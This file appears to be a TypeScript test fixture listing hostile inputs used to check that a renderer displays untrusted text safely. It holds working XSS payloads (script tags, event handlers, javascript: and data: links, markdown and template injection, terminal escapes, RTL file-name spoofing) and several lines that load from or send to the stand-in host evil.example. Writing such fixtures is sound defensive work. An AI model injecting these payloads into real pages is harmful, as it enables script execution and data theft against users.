/** Sets off the trap, if anybody ever runs it. */
const TRAP = "window.__xss=1";
const ESCAPE = "\u001b";

/** What hostile text looks like. Each holds `mark<n>`, which must be readable wherever the text is shown. */
export const PAYLOADS: readonly string[] = [
  `<script>${TRAP}</script>`,
  `<ScRiPt src=https://evil.example/x.js></sCrIpT>`,
  `"><script>${TRAP}</script>`,
  `</textarea></title></style><script>${TRAP}</script>`,
  `<img src=x onerror=${TRAP}>`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload=${TRAP}><animate onbegin=${TRAP} attributeName=x dur=1s></svg>`,
  `<svg><script>${TRAP}</script></svg>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${TRAP}</script>"></object>`,
  `<details open ontoggle=${TRAP}>x</details>`,
  `<input autofocus onfocus=${TRAP}>`,
  `<body onload=${TRAP}>`,
  `<a href="javascript:${TRAP}">press</a>`,
  `<form action="https://evil.example/"><button>press</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css"><style>body{display:none}</style>`,
  `<base href="https://evil.example/">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${TRAP}>`,
  `[press](javascript:${TRAP})`,
  `[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)`,
  `[press](  JaVaScRiPt:${TRAP} "title")`,
  `![picture](https://evil.example/pixel.png)`,
  `![picture](x"onerror="${TRAP})`,
  `<https://evil.example/auto> and https://evil.example/bare`,
  `&lt;script&gt;${TRAP}&lt;/script&gt; &#60;img src=x onerror=${TRAP}&#62;`,
  "{{constructor.constructor('window.__xss=1')()}} ${window.__xss=1} #{window.__xss=1} <%= window.__xss=1 %>",
  "$\\href{javascript:window.__xss=1}{press}$ $\\htmlData{x=1}{y}$ $\\includegraphics{https://evil.example/p.png}$",
  `${ESCAPE}]8;;javascript:${TRAP}${ESCAPE}\\press${ESCAPE}]8;;${ESCAPE}\\ ${ESCAPE}[31mred${ESCAPE}[0m ${ESCAPE}[2J`,
  `\u202egnp.exe\u202c \u2066\u200b\ufeff`,
  `__proto__ constructor prototype toString`,
].map((payload, index) => `${payload} mark${String(index)}`);

/** All of them in one text, each in a paragraph of its own. */
export const ALL_PAYLOADS = PAYLOADS.join("\n\n");

/** Such as a file system takes. */
export const FILE_NAMES: readonly string[] = [
  `<img src=x onerror=${TRAP}>.txt`,
  `"><svg onload=${TRAP}>.txt`,
  `\u202etxt.exe`,
  "__proto__",
  "javascript:window.__xss=1.md",
];
